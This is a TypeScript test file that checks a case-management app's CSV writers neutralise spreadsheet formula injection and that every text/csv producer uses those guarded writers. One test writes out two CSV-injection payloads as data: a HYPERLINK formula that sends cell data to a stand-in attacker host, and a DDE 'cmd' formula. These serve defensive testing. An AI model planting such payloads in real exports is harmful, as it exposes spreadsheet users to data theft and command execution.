// Every CSV Casefile writes goes through the one formula guard in ./csv.ts: for any value in any
// field, no cell of any writer's output starts a formula once a spreadsheet has unquoted it.
import { readdirSync, readFileSync, statSync } from "node:fs";
import path from "node:path";
import { parse } from "csv-parse/sync";
import fc from "fast-check";
import { describe, expect, it } from "vitest";
import { chartCsv } from "@/components/charts/chart-csv";
import { tableCsv } from "@/lib/publishing/open-data-zip";
import { tidyTables } from "@/lib/publishing/tidy-tables";
import { toPlainJson } from "@/lib/format/plain-json";
import type { PublicSnapshot } from "@/lib/publishing/snapshot";
import { fullSnapshot } from "@/tests/support/public-snapshot-fixtures";
import { cellValue, isFormulaLike } from "@/tests/support/csv-formulas";
import { caseFileTexts, type CaseFile } from "./case-file";
import { caseTables } from "./case-tables";
import { toCsv } from "./csv";

/** A record whose every field holds `value`, except the nested shapes the export reads through. */
function recordOf(value: unknown): Record<string, unknown> {
  const nested: Record<string, unknown> = {
    day: new Date("2024-01-01T00:00:00Z"),
    estimate: { label: value, deletedAt: value },
    organization: { name: value },
    investigatedOrg: { name: value },
    recipients: [{ organization: { name: value } }],
  };
  // The export spreads some rows ({ ...r, party: … }), so the fields must be own and enumerable.
  const fields = ["estimate", "revision", "asOf", "active", "dormant", "former", "unsplit", "total", "low", "high", "provenance", "note", "createdAt", "quote", "quoteKo", "context", "statedOn", "records", "day", "organization"];
  const record = Object.fromEntries(fields.map((f) => [f, nested[f] ?? value]));
  return new Proxy(record, { get: (target, key) => (typeof key === "string" ? (key in nested ? nested[key] : key in target ? target[key] : value) : undefined) });
}

/** Every export table of every section, each with one row whose every field holds `value`. */
function caseFileOf(value: unknown): CaseFile {
  return Object.values(caseTables).map((t) => ({ file: t.file, columns: t.columns, rows: [recordOf(value)] }));
}

/**
 * The full fixture with every leaf holding `value` as a published version (JSON) can hold it, a
 * scalar, except the months the tables cut to YYYY-MM.
 */
function snapshotOf(value: unknown): PublicSnapshot {
  const plain = toPlainJson(value);
  const leaf = plain !== null && typeof plain === "object" ? JSON.stringify(plain) : plain;
  const fill = (node: unknown, key: string): unknown => {
    if (Array.isArray(node)) return node.map((n) => fill(n, key));
    if (node && typeof node === "object") return Object.fromEntries(Object.entries(node).map(([k, v]) => [k, fill(v, k)]));
    return key === "month" ? node : leaf;
  };
  return fill(fullSnapshot, "") as PublicSnapshot;
}

// Each writer with the number of values to try (the zip of fourteen CSVs is the slow one).
const WRITERS: [string, (value: unknown) => string[], number][] = [
  ["toCsv (a list of every kind of value)", (value) => [toCsv(["a", "b"], [{ a: value, b: [value, value] }])], 300],
  [
    "open data (every CSV of /cases/<slug>.zip)",
    (value) => tidyTables(snapshotOf(value)).map(tableCsv),
    100,
  ],
  [
    "case-file export (every CSV the zip writes)",
    (value) =>
      caseFileTexts(caseFileOf(value))
        .filter(([name]) => name.endsWith(".csv"))
        .map(([, text]) => text),
    60,
  ],
  ["chart download (ChartFrame)", (value) => [chartCsv([{ key: "a" }, { key: "b" }], [{ a: value, b: [value] }])], 300],
];

describe("every CSV writer", () => {
  it.each(WRITERS)("%s: no cell starts a formula, whatever the values", (_name, write, numRuns) => {
    fc.assert(
      fc.property(cellValue, (value) => {
        for (const csv of write(value)) {
          const rows = parse(csv, { bom: true, relax_column_count: true }) as string[][];
          for (const cell of rows.flat()) expect(isFormulaLike(cell), JSON.stringify(cell)).toBe(false);
        }
      }),
      { numRuns },
    );
  }, 60_000);

  it("the reported payloads in a finding's legal articles and evidence references reach findings.csv defused", () => {
    const payloads = ['=HYPERLINK("http://evil.example/?"&A1,"x")', "@SUM(1+1)*cmd|' /C calc'!A0"];
    const file = caseFileOf("x").map((t) => (t.file === "findings" ? { ...t, rows: [{ ...recordOf("x"), legalArticles: payloads, evidenceRefs: payloads }] } : t));
    const [header, row] = parse(new Map(caseFileTexts(file)).get("findings.csv")!) as string[][];
    for (const column of ["legalArticles", "evidenceRefs"]) {
      expect(row?.[header!.indexOf(column)]).toBe(`'${payloads[0]}\n'${payloads[1]}`);
    }
  });
});

// A new CSV download must use these writers: every source file that sends or builds text/csv
// imports one of them, or only reads CSV (uploads), or names the type of an uploaded evidence
// file, whose bytes go back out exactly as received (custody forbids changing them) or whose text
// is read for search.
const WRITER_MODULES = ["@/lib/export/csv", "@/lib/publishing/open-data", "@/lib/export/case-file", "./chart-csv", "@/components/charts/chart-csv"];
const CSV_READERS = new Set(["components/series/series-import.tsx", "app/api/cases/[slug]/series/import/route.ts", "app/api/v1/cases/[slug]/series/route.ts", "lib/evidence/content-type-policy.ts", "lib/evidence/serving-headers.ts", "lib/evidence/extraction/extraction-policy.ts", "lib/evidence/preview-kind.ts"]);

function sourceFiles(dir: string): string[] {
  return readdirSync(dir).flatMap((name) => {
    const full = path.join(dir, name);
    if (statSync(full).isDirectory()) return name === "generated" ? [] : sourceFiles(full);
    return /\.(ts|tsx)$/.test(name) && !/\.test\.tsx?$/.test(name) ? [full] : [];
  });
}

describe("CSV downloads", () => {
  it("every module that produces text/csv builds it with the guarded writers", () => {
    const root = path.resolve(import.meta.dirname, "../..");
    const producers = ["app", "components", "lib", "scripts"]
      .flatMap((dir) => sourceFiles(path.join(root, dir)))
      .filter((file) => readFileSync(file, "utf8").includes("text/csv"))
      .map((file) => path.relative(root, file))
      .filter((file) => !CSV_READERS.has(file));
    expect(producers.length).toBeGreaterThan(0);
    for (const file of producers) {
      const source = readFileSync(path.join(root, file), "utf8");
      expect(WRITER_MODULES.some((m) => source.includes(`from "${m}"`)), file).toBe(true);
    }
  });
});
